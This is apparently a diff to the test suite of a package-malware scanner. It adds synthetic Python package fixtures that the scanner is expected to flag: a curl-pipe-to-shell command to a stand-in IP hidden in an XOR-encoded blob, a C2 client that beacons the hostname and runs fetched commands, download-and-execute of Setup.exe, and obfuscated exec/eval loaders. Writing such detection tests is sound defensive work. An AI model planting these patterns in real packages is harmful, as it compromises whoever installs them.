@@ -35,11 +35,16 @@ async function npm(files: Record<string, string>, manifest: Record<string, unkno
   return analyzeArtifact(artifact, eco)
 }
 
-async function sdist(files: Record<string, string>): Promise<ScanReport> {
+async function sdistArtifact(files: Record<string, string>): Promise<Built> {
   const bytes = await sdistTarGz('synthetic-pkg', '1.0.0', files)
   const artifact = await pypiEcosystem.readArtifact(bytes, DEFAULT_ARCHIVE_LIMITS, { filename: 'synthetic-pkg-1.0.0.tar.gz' })
   expect(artifact.format).toBe('sdist-tar')
-  return analyzeArtifact(artifact, pypiEcosystem)
+  return { artifact, eco: pypiEcosystem }
+}
+
+async function sdist(files: Record<string, string>): Promise<ScanReport> {
+  const { artifact, eco } = await sdistArtifact(files)
+  return analyzeArtifact(artifact, eco)
 }
 
 async function wheel(files: Record<string, string>): Promise<ScanReport> {
@@ -410,6 +415,28 @@ main()
       }),
     file: 'synthetic_pkg/__init__.py',
     line: 17,
+    weight: 90,
+    verdict: 'hold',
+  },
+  {
+    rule: 'downloads-and-executes',
+    name: 'module code saves a download under a literal name, and a function defined beside it runs that name',
+    scan: () =>
+      sdist({
+        'synthetic_pkg/__init__.py': `import requests, subprocess
+response = requests.get('https://files.example.com/data-package/x/download')
+if response.status_code == 200:
+    with open('Setup.exe', 'wb') as out:
+        out.write(response.content)
+
+    def launch():
+        subprocess.call(['Setup.exe'])
+
+launch()
+`,
+      }),
+    file: 'synthetic_pkg/__init__.py',
+    line: 8,
     weight: 90,
     verdict: 'hold',
   },
@@ -1156,6 +1183,128 @@ connect()
 `,
     })
     expect(scoring(r, 'downloads-and-executes')).toMatchObject({ file: 'synthetic_pkg/__init__.py', line: 7 })
+  })
+
+  it('reads bytearray.fromhex as decoding: a hex blob XOR-ed with a key and executed', async () => {
+    const program = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n".repeat(4)
+    const key = [0xc5, 0xab, 0x41]
+    const blob = Buffer.from([...Buffer.from(program)].map((b, i) => b ^ key[i % 3]!)).toString('hex')
+    const r = await sdist({
+      'synthetic_pkg/__init__.py': `blob = '${blob}'
+
+def unpack(key):
+    data = bytearray.fromhex(blob)
+    k = bytearray.fromhex(key)
+    out = bytearray([data[i] ^ k[i % 3] for i in range(len(data))])
+    exec(out.decode('ascii'))
+`,
+    })
+    expect(scoring(r, 'decodes-and-executes')).toMatchObject({ file: 'synthetic_pkg/__init__.py', line: 7, weight: 80 })
+  })
+
+  it('counts a function another module calls at import as import-time code, and one nobody calls as run time', async () => {
+    const helper = `import base64, subprocess
+def start():
+    subprocess.run(base64.b64decode('${Buffer.from('id; uname -a').toString('base64')}'), shell=True)
+def unused():
+    subprocess.run(base64.b64decode('${Buffer.from('id; uname -a').toString('base64')}'), shell=True)
+`
+    const weight = async (init: string) => scoring(await sdist({ 'synthetic_pkg/__init__.py': init, 'synthetic_pkg/helper.py': helper }), 'decodes-and-executes')?.weight
+    // through every import spelling: from-import, module import, package-absolute, aliased
+    expect(await weight('from .helper import start\nstart()\n')).toBe(90)
+    expect(await weight('from . import helper\nhelper.start()\n')).toBe(90)
+    expect(await weight('import synthetic_pkg.helper\nsynthetic_pkg.helper.start()\n')).toBe(90)
+    expect(await weight('from synthetic_pkg.helper import start as go\ngo()\n')).toBe(90)
+    // imported but only called from a function nothing calls: still run time
+    expect(await weight('from .helper import start\ndef main():\n    start()\n')).toBe(40)
+    expect(await weight('from .helper import unused\n')).toBe(40)
+  })
+
+  it('follows data through the methods of a class of the file: a C2 client wrapped in a class', async () => {
+    const r = await sdist({
+      'synthetic_pkg/__init__.py': `import platform, subprocess
+from urllib import request
+
+class Channel:
+    def __init__(self):
+        self.opener = request.build_opener()
+
+    def fetch(self, url):
+        res = request.build_opener().open(url)
+        return res.read()
+
+    def report(self, url, data):
+        return request.urlopen(request.Request(url, data=data))
+
+channel = Channel()
+channel.report('https://c2.example.net/hello', platform.node().encode())
+command = channel.fetch('https://c2.example.net/task').decode()
+subprocess.Popen(command, shell=True)
+`,
+    })
+    expect(scoring(r, 'downloads-and-executes')).toMatchObject({ file: 'synthetic_pkg/__init__.py', line: 18 })
+    expect(scoring(r, 'beacons-system-info')).toMatchObject({ file: 'synthetic_pkg/__init__.py', line: 16 })
+  })
+
+  it('keeps builtins and the file\'s own names out of a star import: `from requests import *` then eval', async () => {
+    const built = await sdistArtifact({
+      'synthetic_pkg/__init__.py': `from requests import *
+import base64
+
+def unpack(text):
+    return base64.b16decode(text.strip())
+
+reply = get('https://updates.example.net/latest', timeout=3)
+eval(unpack(reply.text))
+`,
+    })
+    const r = analyzeArtifact(built.artifact, built.eco)
+    expect(scoring(r, 'downloads-and-executes')).toMatchObject({ file: 'synthetic_pkg/__init__.py', line: 8 })
+    expect(scoring(r, 'decodes-and-executes')).toMatchObject({ file: 'synthetic_pkg/__init__.py', line: 8 })
+    const apis = collectFacts(built.artifact, built.eco).files.find((f) => f.path === 'synthetic_pkg/__init__.py')!.capabilities.map((c) => `${c.cap} ${c.api}`)
+    expect(apis).toEqual(expect.arrayContaining(['network requests.get', 'dynamic-code eval']))
+    expect(apis.filter((a) => a.startsWith('network'))).toEqual(['network requests.get'])
+  })
+
+  it('sees names spelt by picking characters out of a table, and hex groups joined by a separator', async () => {
+    const program = Buffer.from("import os\nos.system('id')\n".repeat(12))
+    const groups = [...program].map((b) => (b ^ 0x5a).toString(16).padStart(2, '0') + 'a7').join('/')
+    const r = await sdist({
+      'synthetic_pkg/__init__.py': `class Loader:
+    def __init__(self, data):
+        self.t = 'abcdefghijklmnopqrstuvwxyz'
+        codec = __import__(self.t[1]+self.t[8]+self.t[13]+self.t[0]+self.t[18]+self.t[2]+self.t[8]+self.t[8])
+        run = getattr(__builtins__, self.t[4]+self.t[23]+self.t[4]+self.t[2]+self.t[0]+self.t[4])
+        name = self.t[3]+self.t[4]+self.t[2]+self.t[14]+self.t[3]+self.t[4]
+        run(bytes(b ^ 0x5a for b in codec.unhexlify(''.join(g[:2] for g in data.split('/')))).decode())
+
+Loader('${groups}')
+`,
+    })
+    expect(weighted(r)).toEqual(['encoded-payload', 'obfuscated-code'])
+    expect(r.verdict).toBe('hold')
+    // numeric code adds a row in order, and decimal tables are data
+    const plain = await sdist({
+      'synthetic_pkg/__init__.py': `TABLE = '${Array.from({ length: 120 }, (_, i) => (i * 7) % 100).join(',')}'
+def total(row):
+    return row[0]+row[1]+row[2]+row[3]+row[4]+row[5]+row[6]
+def mixed(row):
+    return row[0]+row[2]+row[1]+row[3]+row[4]+row[5]
+exec('x = 1')
+`,
+    })
+    expect(weighted(plain)).toEqual([])
+  })
+
+  it('sees a builtin fetched by a computed name, not one fetched by a variable', async () => {
+    const hidden = await sdist({
+      'setup.py': setupPy(`import sys\nname = ''.join(map(getattr(__builtins__, oct.__str__()[-3] + hex.__str__()[-4] + copyright.__str__()[4]), [112, 105, 112]))\n`),
+    })
+    expect(scoring(hidden, 'obfuscated-code')).toMatchObject({ file: 'setup.py', weight: 70 })
+    const compat = await sdist({
+      'setup.py': setupPy(`import builtins\nfor name in ('input', 'raw_input'):\n    reader = getattr(builtins, name, None)\ncolumns = [getattr(builtins, d.split(':')[1]) for d in 'a:int b:str'.split()]\n`),
+    })
+    expect(weighted(compat)).toEqual([])
   })
 
   it('resolves `node .` to the main entry and runs it at install', async () => {
